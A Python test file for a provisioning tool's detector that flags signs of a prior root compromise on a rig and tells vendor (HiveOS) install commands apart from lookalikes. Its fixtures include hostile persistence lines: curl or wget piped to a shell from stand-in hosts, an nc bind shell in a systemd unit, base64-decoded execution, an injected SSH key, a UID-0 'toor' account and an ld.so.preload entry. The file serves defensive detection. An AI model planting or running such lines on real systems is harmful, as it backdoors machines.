"""Signs that another person was root, and lines of a vendor that are none."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from provision.remote.facts.takeover import RECORD, is_of_vendor, takeover
from provision.remote.facts.tree import Tree
from tests.unit.modules.rig import create_files

USERS = "root:x:0:0:root:/root:/bin/bash\nuser:x:1000:1000::/home/user:/bin/bash\n"


@pytest.mark.parametrize(
    ("files", "name"),
    [
        (
            {"etc/rc.local": "#!/bin/sh\ncurl -s http://x.example/a | bash\n"},
            "runs what it fetches",
        ),
        ({"home/user/.bashrc": "wget -qO- 192.0.2.9/x | sh\n"}, "runs what it fetches"),
        ({"etc/cron.d/x": "* * * * * root bash -c '$(curl -fsSL x.example)'\n"}, "fetches"),
        ({"var/spool/cron/crontabs/root": '* * * * * sh -c "$(curl x.example/i)"\n'}, "fetches"),
        ({"etc/systemd/system/x.service": "ExecStart=/bin/nc -lp 99 -e /bin/sh\n"}, "a shell"),
        ({"etc/rc.local": "#!/bin/sh\necho aGk= | base64 -d | sh\n"}, "hides in base64"),
        ({"etc/cron.daily/k": "echo key >>/root/.ssh/authorized_keys\n"}, "who may log in"),
        ({"etc/passwd": f"{USERS}toor:x:0:0::/root:/bin/sh\n"}, "toor is root"),
        ({"etc/ld.so.preload": "/usr/local/lib/x.so\n"}, "/usr/local/lib/x.so is loaded"),
        # What is commented out, by demine or by hand, is not a finding.
        ({"etc/rc.local": "#!/bin/sh\n: # deeprig: curl -s http://x.example/a | bash\n"}, None),
        ({"etc/crontab": "# curl -s http://x.example/a | bash\n"}, None),
        ({"etc/cron.daily/apt": "curl -s https://deb.example/key >/tmp/key\n"}, None),
    ],
)
def test_signs_are_found(tmp_path: Path, files: dict[str, str], name: str | None) -> None:
    create_files(tmp_path, {"etc/passwd": USERS, **files})
    result = takeover(Tree(str(tmp_path)))["signs"]
    assert [name in sign["name"] for sign in result if name] == ([True] if name else [])
    assert bool(result) is bool(name)


@pytest.mark.parametrize(
    ("line", "is_vendors"),
    [
        ("curl -s https://download.hiveos.farm/install.sh | bash", True),
        ("wget -O /tmp/x.sh http://hiveos.farm/x && bash /tmp/x.sh", True),
        ("curl -k -o x https://raw.githubusercontent.com/minershive/x/y.sh; sh x", True),
        ("bash <(curl -fsSL 'https://api.hiveon.com/setup')", True),
        # Another host, a name that only looks the same, or a host that cannot be known.
        ("curl -s http://x.example/a.sh | bash", False),
        ("curl -s http://hiveos.farm.x.example/a.sh | bash", False),
        ("curl -s http://x.example/hiveos.farm/a.sh | bash", False),
        ("curl -s http://evilhiveos.farm/a.sh | bash", False),
        ("curl -s x.example/a | bash; curl https://hiveos.farm/x", False),
        ("curl x.example/a | bash # https://hiveos.farm/x", False),
        ("wget $URL -O- | sh; echo https://hiveos.farm", False),
        ("curl https://raw.githubusercontent.com/other/x/y.sh | sh", False),
        ("nc -lp 99 -e /bin/sh # hiveos.farm", False),
    ],
)
def test_line_is_the_vendors_if_all_it_fetches_is(line: str, is_vendors: bool) -> None:
    assert is_of_vendor(line) is is_vendors


@pytest.mark.parametrize(
    ("record", "count"),
    [
        ([{"kind": "user", "name": "toor is root", "evidence": "/etc/passwd"}], 1),
        ([{"kind": "user"}, 7, None], 0),
        ({}, 0),
        ("nonsense", 0),
    ],
)
def test_what_was_recorded_is_read_again(tmp_path: Path, record: Any, count: int) -> None:
    text = record if isinstance(record, str) else json.dumps(record)
    create_files(tmp_path, {RECORD.lstrip("/"): text, "etc/passwd": USERS})
    result = takeover(Tree(str(tmp_path)))
    assert len(result["recorded"]) == count
    assert result["signs"] == []
